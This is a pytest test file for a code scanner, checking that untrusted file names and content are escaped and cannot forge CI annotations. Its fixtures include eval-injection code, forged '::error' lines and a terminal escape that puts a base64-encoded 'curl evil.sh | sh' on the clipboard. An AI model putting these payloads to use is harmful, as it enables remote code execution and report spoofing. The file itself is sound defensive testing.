"""Nothing from a scanned repository reaches the output raw: file names, content and
metavariables are printed with visible escapes; messages are one line; no printed line
starts as a CI workflow command except the `github` format's own annotations.

Issue 11, defects 4 (odd file names), 8 (escape sequences), 9 (forged lines) and the caret
and table items of 17.
"""

from __future__ import annotations

import json
import os
import re
from pathlib import Path

import pytest
from git_helpers import git, isolate_git, new_repo

from secure_lint.report.untrusted import guard_lines, json_text, one_line, visible

RULES = str(Path(__file__).parent / "data" / "basic-rules.yaml")
TOKEN = "acme_Zq8Xw2Lp4Vt7Rn1Cy6Bh5Js0"
FORMATS = ("text", "json", "sarif", "markdown", "html", "github")
RAW_CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\ud800-\udfff\u202a-\u202e\u2066-\u2069]")
ODD_NAMES = {
    b"tab\there.ts": "tab\\there.ts",
    b"new\nline.ts": "new\\nline.ts",
    b"esc\x1b[2Jclear.ts": "esc\\x1b[2Jclear.ts",
    b"latin-\xe9t\xe9.ts": "latin-\\xe9t\\xe9.ts",
    b"::error title=owned::pwned.ts": "./::error title=owned::pwned.ts",
}


def assert_clean(output: str, fmt: str) -> None:
    assert RAW_CONTROL.findall(output) == []
    commands = [line for line in output.splitlines() if line.lstrip().startswith(("::", "##["))]
    if fmt == "github":
        assert all(re.match(r"::(error|warning|notice) file=", line) for line in commands), commands
    else:
        assert commands == []


@pytest.fixture
def odd_repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    isolate_git(monkeypatch, tmp_path / "home")
    repo = new_repo(tmp_path / "app")
    for name in ODD_NAMES:
        with open(os.path.join(os.fsencode(repo), name), "w") as file:
            file.write(f"export const key = '{TOKEN}';\n")
    return repo


def scan(run_cli, root: Path, *args: str):
    return run_cli("scan", "--no-bundled-rules", "--rules", RULES, *args, cwd=root)


def test_odd_file_names_are_scanned_and_printed_escaped_in_every_format(odd_repo: Path, run_cli) -> None:
    for fmt in FORMATS:
        result = scan(run_cli, odd_repo, "--format", fmt)
        assert result.exit_code == 1, (fmt, result.output)
        assert_clean(result.stdout, fmt)
    text = scan(run_cli, odd_repo).stdout
    for shown in ODD_NAMES.values():
        assert f"{shown}:1:21: high test.secrets.token an Acme token is committed\n" in text
    data = json.loads(scan(run_cli, odd_repo, "--format", "json").stdout)
    assert sorted(f["location"]["path"] for f in data["findings"]) == sorted(os.fsdecode(name) for name in ODD_NAMES)


def test_odd_file_names_in_staged_scans_and_baselines(odd_repo: Path, run_cli) -> None:
    git(odd_repo, "add", "-A")
    staged = scan(run_cli, odd_repo, "--staged")
    assert staged.exit_code == 1, staged.output
    assert staged.stdout.count("test.secrets.token an Acme token") == len(ODD_NAMES)
    assert_clean(staged.stdout, "text")
    created = run_cli("baseline", "create", cwd=odd_repo)
    assert created.exit_code == 0, created.output
    assert created.stdout == "wrote .secure-lint-baseline.json: 0 findings\n"  # no bundled token rule
    created = run_cli("baseline", "create", "--force", "--config", str(write_config(odd_repo)), cwd=odd_repo)
    assert created.exit_code == 0, created.output
    assert created.stdout == f"wrote .secure-lint-baseline.json: {len(ODD_NAMES)} findings\n"
    ledger = (odd_repo / ".secure-lint-baseline.json").read_bytes()
    assert RAW_CONTROL.findall(ledger.decode("utf-8")) == []
    again = scan(run_cli, odd_repo, "--baseline", ".secure-lint-baseline.json")
    assert again.exit_code == 0, again.output


def write_config(repo: Path) -> Path:
    config = repo.parent / "odd.yaml"
    config.write_text(f"rules: [{RULES}]\n")
    return config


HOSTILE = (
    "export function run(req) {\n"
    "  const banner = eval('\x1b[2J\x1b[H\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 \x9b31m' + req.body);\n"
    f"  return eval(banner + req.query.code); // {TOKEN}\n"
    "}\n"
    "export const next = (input) => eval(`${input}\n"
    "::error file=app.ts::forged`);\n"
)


def test_escape_sequences_in_content_are_neutralised_in_every_format(tree, run_cli) -> None:
    root = tree({"package.json": '{"name": "web"}', "src/run.ts": HOSTILE})
    for fmt in FORMATS:
        result = scan(run_cli, root, "--format", fmt)
        assert result.exit_code == 1, (fmt, result.output)
        assert_clean(result.stdout, fmt)
    text = scan(run_cli, root).stdout
    assert (
        "src/run.ts:5:32: critical test.injection.eval `eval` runs ``${input} ::error file=app.ts::forged``\n" in text
    )
    assert (
        "src/run.ts:2:18: critical test.injection.eval `eval` runs "
        "`'\\x1b[2J\\x1b[H\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07 \\x9b31m' + req.body`\n"
        "    2 |   const banner = eval("
        "'\\x1b[2J\\x1b[H\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07 \\x9b31m' + req.body);\n"
    ) in text
    assert "    5 | export const next = (input) => eval(`${input}\n" in text


def test_a_message_never_spans_lines_and_no_line_starts_as_a_command(tree, run_cli) -> None:
    root = tree({"package.json": '{"name": "web"}', "src/run.ts": HOSTILE})
    for fmt in ("text", "markdown", "html"):
        output = scan(run_cli, root, "--format", fmt).stdout
        assert not any(line.lstrip().startswith("::") for line in output.splitlines())
    github = scan(run_cli, root, "--format", "github").stdout.splitlines()
    assert [line.split(" ", 1)[0] for line in github] == ["::error"] * 4 + ["4"]


def test_the_caret_is_aligned_after_tabs_and_wide_characters(tree, run_cli) -> None:
    root = tree({"package.json": '{"name": "web"}'})
    (root / "src").mkdir()
    (root / "src/wide.ts").write_text("\tconst 名前 = '日本'; eval(名前);\n")
    lines = scan(run_cli, root).stdout.splitlines()
    assert lines[0] == "src/wide.ts:1:19: critical test.injection.eval `eval` runs `名前`"
    assert lines[1] == "    1 |     const 名前 = '日本'; eval(名前);"  # the tab shows as 4 columns
    assert lines[2] == "      | " + " " * 25 + "^" * 10  # each wide character takes two columns


def test_a_pipe_in_a_path_does_not_break_the_markdown_table(tree, run_cli) -> None:
    root = tree({"src/a|b.ts": f"const key = '{TOKEN}';\n"})
    report = scan(run_cli, root, "--format", "markdown").stdout
    assert "| `src/a\\|b.ts:1:14` | an Acme token is committed |" in report


def test_visible_escapes_controls_surrogates_and_bidi() -> None:
    assert visible("a\tb\nc\x1b[2J\x07\x9b\x7f\u202e\udce9") == "a\\tb\\nc\\x1b[2J\\x07\\x9b\\x7f\\u202e\\xe9"
    assert visible("plain — ünïcode 日本") == "plain — ünïcode 日本"
    assert one_line("eval(a +\n    b)\r\n") == "eval(a + b) "
    assert guard_lines("::error::x\n  ##[group]y\nok\n") == "\\::error::x\n  \\##[group]y\nok\n"
    assert json.loads(json_text(json.dumps({"p": "a\x9b\udce9"}, ensure_ascii=False))) == {"p": "a\x9b\udce9"}
